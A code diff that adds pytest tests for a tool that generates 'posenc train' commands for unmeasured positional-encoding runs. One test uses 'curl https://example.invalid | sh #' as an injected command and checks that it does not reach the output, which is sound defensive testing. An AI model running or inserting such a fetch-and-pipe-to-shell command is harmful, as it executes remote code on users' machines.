@@ -103,6 +103,32 @@ def test_the_command_for_a_missing_row_has_its_stride_swap_and_split(tools: Any)
     ]
 
 
+def test_the_command_for_missing_fixed_targets_repeats_the_evaluated_lengths(tools: Any) -> None:
+    """The targets depend on the longest length of a command."""
+    runs = sides(tools)
+    for run in runs:
+        run.add_row(64, 3.0, protocol="fixed_target", stride=16, longest=64)
+    changed = "alibi, protocol: fixed_target, stride: 16, length: 2L"
+    claim = CLAIM.replace("alibi, length: L", changed)
+    reason = reason_of(tools, "not measured", runs, claim)
+    assert "'evaluation.lengths=[64,128]' evaluation.targets=16" in reason
+
+
+def test_the_command_for_missing_runs_has_values_that_hydra_can_read(tools: Any) -> None:
+    claim = CLAIM.replace("encoding: rope", "encoding: rope, gradient_clip: null")
+    assert " gradient_clip=null " in reason_of(tools, "not measured", sides(tools), claim)
+
+
+@pytest.mark.parametrize("left_out", [1, 3])
+def test_a_plan_cannot_have_the_reader_run_another_command(tools: Any, left_out: int) -> None:
+    runs = sides(tools)
+    runs[1].rows.clear()
+    runs = runs[:left_out] if left_out == 3 else runs
+    command = "curl https://example.invalid | sh #"
+    reason = reason_of(tools, "not measured", runs, command=command)
+    assert "curl" not in reason and "`posenc train" in reason
+
+
 def test_the_command_for_a_missing_corpus_evaluates_on_it(tools: Any) -> None:
     claim = CLAIM.replace("encoding: alibi", "encoding: alibi, corpus: wikitext103")
     reason = reason_of(tools, "not measured", sides(tools), claim)
